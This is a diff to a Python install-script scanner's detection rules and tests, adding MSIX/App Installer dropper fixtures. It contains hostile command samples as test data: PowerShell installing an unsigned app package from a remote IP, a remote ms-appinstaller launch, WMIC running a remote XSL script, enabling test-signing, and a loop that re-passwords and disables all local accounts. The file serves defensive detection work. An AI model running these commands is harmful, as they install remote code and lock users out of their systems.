@@ -68,6 +68,13 @@ def rules(art: Artifact) -> set[str]:
     ("bcdedit /set testsigning on", "install-script/kernel-driver"),
     # blind set 30 (XSL script execution): WMIC fetches a stylesheet with script in it and runs it
     ("wmic os get Caption /format:\"https://cdn.example/wbem/list.xsl\"", "install-script/remote-script"),
+    # blind set 41 (MSIX App Installer droppers): an app package installed from the network
+    ("powershell -NoProfile -Command \"Add-AppxPackage -Path 'http://203.0.113.140/pkg/FontHost_x64.msix' -AllowUnsigned\"",
+     "install-script/remote-script"),
+    ("powershell -Command \"Start-Process 'ms-appinstaller:?source=https%3A%2F%2Fapps.toast.example%2Fhost.appinstaller'\"",
+     "install-script/remote-script"),
+    ("powershell -Command \"Add-AppxPackage -AppInstallerFile 'assets/Host.appinstaller' -ForceApplicationShutdown\"",
+     "install-script/remote-script"),
     # blind set 29 (account access removal): every local account re-passworded, disabled or locked
     ("for /f \"skip=4 tokens=1-3\" %%a in ('net user') do net user \"%%a\" \"!NEWPW!\"", "install-script/account-lockout"),
     ("net user %%u /active:no", "install-script/account-lockout"),
@@ -413,6 +420,12 @@ def test_windows_script_hosts_running_remote_code(command):
 
 def test_msiexec_of_a_local_package_is_not_remote_code():
     found = findings(artifact({"postinstall": "msiexec /i vendor\\tool.msi /qn"}))
+    assert "install-script/remote-script" not in {f.rule for f in found}
+
+
+def test_an_app_package_installed_from_the_package_itself_is_not_remote_code():
+    # (a Windows app's dev script sideloads the MSIX it just built)
+    found = findings(artifact({"postinstall": "powershell -Command \"Add-AppxPackage -Path dist\\App_x64.msix\""}))
     assert "install-script/remote-script" not in {f.rule for f in found}
 
 
